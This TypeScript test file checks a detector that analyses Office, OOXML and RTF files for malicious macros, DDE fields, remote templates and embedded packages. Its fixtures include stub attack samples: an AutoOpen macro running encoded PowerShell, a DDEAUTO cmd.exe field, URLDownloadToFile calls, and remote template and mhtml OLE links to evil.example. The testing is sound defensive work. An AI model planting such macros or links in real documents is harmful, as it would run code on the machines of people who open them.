import { analyseOffice, analyseOle, analyseOoxml, isRemoteTarget } from '../../../functions/src/core/documents/office';
import { analyseMacroSource } from '../../../functions/src/core/documents/macro-source';
import { analyseRtf } from '../../../functions/src/core/documents/rtf';
import { oleDocument, ooxml, relationships, vbaProjectBin } from './fixtures';

const AUTO_SHELL = 'Sub AutoOpen()\r\n  Dim x\r\n  x = Shell("powershell -enc AAAA", 0)\r\nEnd Sub\r\n';

describe('analyseOle: legacy Office', () => {
  it('reads the VBA source of a Word document through the dir stream', () => {
    const facts = analyseOle(oleDocument({ application: 'word', modules: [{ name: 'NewMacros', source: AUTO_SHELL }] }));
    expect(facts).toMatchObject({ container: 'ole', application: 'word', vbaPresent: true, autoExec: ['AutoOpen'] });
    expect(facts?.vbaProjects[0]).toMatchObject({ storage: 'Macros', method: 'dir' });
    expect(facts?.vbaProjects[0]?.modules[0]?.source).toContain('powershell -enc');
    expect(facts?.macroCalls.map((call) => call.keyword)).toEqual(expect.arrayContaining(['Shell', 'powershell']));
  });

  it('falls back to scanning module streams for compressed source when the dir stream is unusable', () => {
    const facts = analyseOle(oleDocument({ application: 'excel', brokenDir: true, modules: [{ name: 'Module1', source: 'Sub Workbook_Open()\r\nEnd Sub\r\n' }] }));
    expect(facts?.vbaProjects[0]?.method).toBe('scan');
    expect(facts?.autoExec).toEqual(['Workbook_Open']);
  });

  it('finds Excel 4.0 macro sheets, packaged files, encryption and installers', () => {
    expect(analyseOle(oleDocument({ application: 'excel', macroSheet: true }))?.xlmMacroSheets).toBe(1);
    expect(analyseOle(oleDocument({ application: 'excel' }))?.xlmMacroSheets).toBe(0);
    expect(analyseOle(oleDocument({ application: 'word', packagedFile: { name: 'invoice.exe', data: Buffer.from('MZ') } }))?.packagedFiles).toEqual(['invoice.exe']);
    expect(analyseOle(oleDocument({ application: 'encrypted_ooxml' }))?.encrypted).toBe(true);
    expect(analyseOle(oleDocument({ application: 'word', wordEncrypted: true }))?.encrypted).toBe(true);
    expect(analyseOle(oleDocument({ application: 'installer' }))?.application).toBe('installer');
  });

  it('a plain document has no macros; non-OLE bytes give null; damaged OLE gives a problem, not an exception', () => {
    const plain = analyseOle(oleDocument({ application: 'word' }));
    expect(plain).toMatchObject({ vbaPresent: false, autoExec: [], macroCalls: [], encrypted: false, packagedFiles: [] });
    expect(analyseOle(Buffer.from('hello'))).toBeNull();
    const damaged = oleDocument({ application: 'word' }).subarray(0, 600);
    expect(analyseOle(damaged)?.problems.join()).toMatch(/unreadable|damaged/);
  });
});

describe('analyseOoxml', () => {
  it('reads vbaProject.bin of a macro-enabled workbook', () => {
    const bytes = ooxml('excel', { 'xl/vbaProject.bin': vbaProjectBin([{ name: 'ThisWorkbook', source: 'Private Sub Workbook_Open()\r\n Set o = CreateObject("WScript.Shell")\r\nEnd Sub' }]) });
    const facts = analyseOoxml(bytes);
    expect(facts).toMatchObject({ container: 'ooxml', application: 'excel', vbaPresent: true, autoExec: ['Workbook_Open'] });
    expect(facts?.macroCalls.map((call) => call.category)).toEqual(expect.arrayContaining(['execute', 'create_object']));
  });

  it('reports remote templates, external OLE objects, hyperlinks; local template paths are not remote', () => {
    const bytes = ooxml('word', {
      'word/_rels/settings.xml.rels': relationships([{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', external: true }]),
      'word/_rels/document.xml.rels': relationships([
        { type: 'oleObject', target: 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html', external: true },
        { type: 'hyperlink', target: 'https://www.example.org/page?a=1&b=2', external: true },
        { type: 'styles', target: 'styles.xml' },
      ]),
      'word/_rels/footer1.xml.rels': relationships([{ type: 'attachedTemplate', target: 'file:///C:\\Users\\me\\Templates\\Normal.dotm', external: true }]),
    });
    const refs = analyseOoxml(bytes)?.externalReferences ?? [];
    expect(refs).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'template', target: 'https://evil.example/t.dotm', remote: true }),
        expect.objectContaining({ kind: 'ole_object', remote: true }),
        expect.objectContaining({ kind: 'hyperlink', target: 'https://www.example.org/page?a=1&b=2' }),
        expect.objectContaining({ kind: 'template', remote: false }),
      ]),
    );
    expect(refs).toHaveLength(4);
  });

  it('finds DDE field codes split over runs, Excel DDE links and XLM macro sheets', () => {
    const word = ooxml('word', {
      'word/document.xml': '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body></w:document>',
    });
    expect(analyseOoxml(word)?.dde[0]).toMatch(/^DDEAUTO c:/);
    const excel = ooxml('excel', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' });
    const facts = analyseOoxml(excel);
    expect(facts?.dde).toEqual(['ddeLink cmd /c calc']);
    expect(facts?.xlmMacroSheets).toBe(1);
  });

  it('an ordinary document yields no macro, DDE or remote reference; a plain zip is not OOXML', () => {
    const facts = analyseOffice(ooxml('word'));
    expect(facts).toMatchObject({ vbaPresent: false, dde: [], externalReferences: [], xlmMacroSheets: 0, packagedFiles: [] });
    expect(analyseOoxml(Buffer.from('not a zip'))).toBeNull();
  });
});

describe('analyseMacroSource', () => {
  it('tells auto-exec procedures and suspicious calls from an ordinary macro', () => {
    expect(analyseMacroSource('Sub Document_Open()\r\n URLDownloadToFileA 0, u, f, 0, 0\r\nEnd Sub')).toMatchObject({
      autoExec: ['Document_Open'],
      calls: [{ keyword: 'URLDownloadToFile', category: 'download' }],
    });
    expect(analyseMacroSource('Sub InkPicture1_Painted(ByVal h As Long)\r\nEnd Sub').autoExec).toEqual(['InkPicture1_Painted']);
    expect(analyseMacroSource(`Sub Build()\r\n s = ${Array.from({ length: 45 }, (_, i) => `Chr(${65 + (i % 26)})`).join(' & ')}\r\nEnd Sub`).calls).toEqual([
      { keyword: 'Chr() string building', category: 'obfuscation' },
    ]);
    // A user-triggered formatting macro: no auto-exec, nothing reaching outside.
    expect(analyseMacroSource('Sub FormatReport()\r\n Range("A1").Font.Bold = True\r\n MsgBox "Done"\r\nEnd Sub')).toEqual({ autoExec: [], calls: [] });
  });
});

describe('isRemoteTarget', () => {
  it.each([
    ['https://x.example/t.dotm', true],
    ['\\\\10.0.0.5\\share\\t.dotm', true],
    ['file://server/share/t.dotm', true],
    ['ms-msdt:/id PCWDiagnostic', true],
    ['file:///C:/Users/me/Normal.dotm', false],
    ['../media/image1.png', false],
  ])('%s → %s', (target, remote) => expect(isRemoteTarget(target)).toBe(remote));
});

describe('analyseRtf', () => {
  const hex = (text: string): string => Buffer.from(text, 'latin1').toString('hex');
  const ole1 = (className: string, native = ''): string => {
    const u32 = (n: number): string => Buffer.from([n & 0xff, (n >> 8) & 0xff, 0, 0]).toString('hex');
    return `01050000${'02000000'}${u32(className.length + 1)}${hex(`${className}\0`)}${u32(0)}${u32(0)}${u32(native.length / 2)}${native}`;
  };

  it('reads object classes from \\objclass or the OLE1 header, \\objupdate and packaged file names', () => {
    const packageNative = `0200${hex('run.exe\0')}${hex('C:\\t\\run.exe\0')}`;
    const rtf = `{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata ${ole1('Equation.3')}}}{\\object\\objemb{\\*\\objdata ${ole1('Package', packageNative)}}}}`;
    const facts = analyseRtf(Buffer.from(rtf, 'latin1'));
    expect(facts?.objects).toEqual([
      { className: 'Equation.3', autoUpdate: true, packagedFile: null },
      { className: 'Package', autoUpdate: false, packagedFile: 'run.exe' },
    ]);
  });

  it('plain RTF has no objects; non-RTF is null', () => {
    expect(analyseRtf(Buffer.from('{\\rtf1\\ansi Hello \\b world}'))).toEqual({ objects: [], truncated: false });
    expect(analyseRtf(Buffer.from('%PDF-1.4'))).toBeNull();
  });
});
